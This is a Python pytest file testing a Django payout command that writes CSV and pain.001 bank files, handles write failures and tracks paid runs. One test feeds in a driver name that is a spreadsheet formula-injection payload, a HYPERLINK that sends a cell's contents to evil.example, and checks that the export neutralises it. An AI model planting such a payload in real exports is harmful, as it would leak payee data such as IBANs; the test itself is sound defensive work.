"""Payouts by command: the run, its files for the bank, and what became of it."""

import csv
import io
import resource
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from hazardmap.platform.ids import new_id
from hazardmap.rewards.models import Booking, Entry
from hazardmap.rewards.payout_files import payout_csv
from hazardmap.rewards.payout_models import Payout, PayoutRun, PayoutTarget
from hazardmap.rewards.services import (
    payout_end,
    share_correct,
)
from tests.payout_scene import IBAN, MICRO, OURS, divided, driver, prepared, share

pytestmark = pytest.mark.django_db


@contextmanager
def files_of_at_most(size: int) -> Iterator[None]:
    """A longer one breaks off there, as on a disk that is full."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


def test_a_run_becomes_csv_and_pain_001_and_is_paid_by_command(tmp_path, capsys):
    first, second = driver("Ann Ålund"), driver("Bo", iban=OURS)
    share(50 * MICRO, first, second)
    share(10_010_000, second)
    prepared()
    run = PayoutRun.objects.get()
    bank = {"from_name": "Hazardmap Oy", "from_iban": OURS}
    call_command("payout", "csv", str(run.pk), out=tmp_path / "run.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "run.csv").read_text())))
    assert {(row["name"], row["iban"], row["amount"]) for row in rows} == {
        ("Ann Ålund", IBAN, "25"),
        ("Bo", OURS, "35.01"),
    }
    call_command("payout", "pain001", str(run.pk), out=tmp_path / "run.xml", **bank)
    root = ElementTree.parse(tmp_path / "run.xml").getroot()  # noqa: S314 - we wrote it
    space = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"}
    assert root.findtext(".//p:GrpHdr/p:MsgId", namespaces=space) == run.pk.hex
    assert root.findtext(".//p:GrpHdr/p:CtrlSum", namespaces=space) == "60.01"
    assert {one.text for one in root.iterfind(".//p:InstdAmt", space)} == {"25.00", "35.01"}
    assert {one.text for one in root.iterfind(".//p:EndToEndId", space)} == {
        payout.pk.hex for payout in run.payouts.all()
    }
    files = {path: path.read_bytes() for path in tmp_path.iterdir()}
    for name in ("run.xml", "new.xml"):
        full = pytest.raises(CommandError, match=r"--out: .* cannot be written")
        with files_of_at_most(100), full:
            call_command("payout", "pain001", str(run.pk), out=tmp_path / name, **bank)
    assert {path: path.read_bytes() for path in tmp_path.iterdir()} == files
    capsys.readouterr()
    call_command("payout", "csv", str(run.pk), out=Path("-"))
    printed = capsys.readouterr().out
    assert printed.encode() == (tmp_path / "run.csv").read_bytes(), "a container has no other way"
    call_command("payout", "paid", str(run.pk))
    assert "2 payouts paid" in capsys.readouterr().out
    with pytest.raises(CommandError, match="nobody to pay"):
        call_command("payout", "prepare")
    ended = tmp_path / "ended"
    for kind, more in (("csv", {}), ("pain001", bank)):
        with pytest.raises(CommandError, match="there is none to write"):
            call_command("payout", kind, str(run.pk), out=ended, **more)
    with pytest.raises(CommandError, match="--at-least: must be at least 0"):
        call_command("payout", "prepare", "--at-least=-5")
    with pytest.raises(CommandError, match="--at: then: must be a time like 2026-11-01T14:00"):
        call_command("payout", "prepare", "--at", "then")
    nothing = str(new_id())
    for step, options in (("csv", {"out": ended}), ("paid", {}), ("failed", {})):
        with pytest.raises(CommandError, match=f"There is no run or payout {nothing}."):
            call_command("payout", step, nothing, **options)
    assert not ended.exists()


def test_a_run_whose_number_nobody_has_read_is_found_again(capsys):
    """The connection to the terminal was lost when it was written: the money is on its way."""
    share(50 * MICRO, driver("Ann"), driver("Bo"))
    first, second = prepared()
    run = PayoutRun.objects.get()
    with pytest.raises(CommandError, match="nobody to pay"):
        call_command("payout", "prepare")
    assert f"run {run.pk}: 2 payouts, 50.00 EUR since" in capsys.readouterr().out
    payout_end(payout_id=first.pk, paid=True)
    call_command("payout", "list")
    assert f"run {run.pk}: 1 payouts, 25.00 EUR since" in capsys.readouterr().out
    payout_end(payout_id=second.pk, paid=False)
    call_command("payout", "list")
    assert capsys.readouterr().out == ""


def test_who_prepares_payouts_hears_of_shares_that_nobody_has_judged(monkeypatch, capsys):
    with monkeypatch.context() as back_then:
        then = timezone.now() - timedelta(days=14, minutes=1)
        back_then.setattr(Booking._meta.get_field("at"), "_get_default", lambda: then)
        line, weights = divided(9 * MICRO, driver())
    for told in (True, False):
        with pytest.raises(CommandError, match="nobody to pay"):
            call_command("payout", "prepare")
        assert ("1 lines of invoices were not judged again" in capsys.readouterr().err) == told
        share_correct(line_id=line, weights=weights, penalties={}, units=1)


def test_a_name_is_no_formula_in_the_file_for_the_bank():
    share(9 * MICRO, driver('=HYPERLINK("http://evil.example/?"&C3,"Ben")'))
    prepared()
    (row,) = csv.DictReader(io.StringIO(payout_csv(PayoutRun.objects.get().pk), newline=""))
    assert row["name"].startswith("'=HYPERLINK(")


def test_a_run_that_a_restored_dump_does_not_know_is_prepared_as_it_was(monkeypatch, capsys):
    """What was settled since is not in it: noted as paid, it is what the bank has paid."""
    user, now = driver(), timezone.now()
    for micro, days in ((9 * MICRO, 15), (30 * MICRO, 14)):
        with monkeypatch.context() as back_then:
            then = now - timedelta(days=days, minutes=1)
            back_then.setattr(Entry._meta.get_field("at"), "_get_default", lambda at=then: at)
            share(micro, user)
    PayoutTarget.objects.update(set_at=now - timedelta(days=5))
    yesterday = f"{now - timedelta(hours=23):%Y-%m-%dT%H:%M}"
    call_command("payout", "prepare", "--at-least=5", f"--at={yesterday}")
    payout = Payout.objects.get()
    assert payout.amount_micro == 9 * MICRO
    call_command("payout", "paid", str(payout.run_id))
    call_command("payout", "prepare", "--at-least=5")
    assert Payout.objects.get(state=Payout.State.PENDING).amount_micro == 30 * MICRO
    with pytest.raises(CommandError, match="--at: must be in the past"):
        call_command("payout", "prepare", f"--at={now + timedelta(days=1):%Y-%m-%d}")
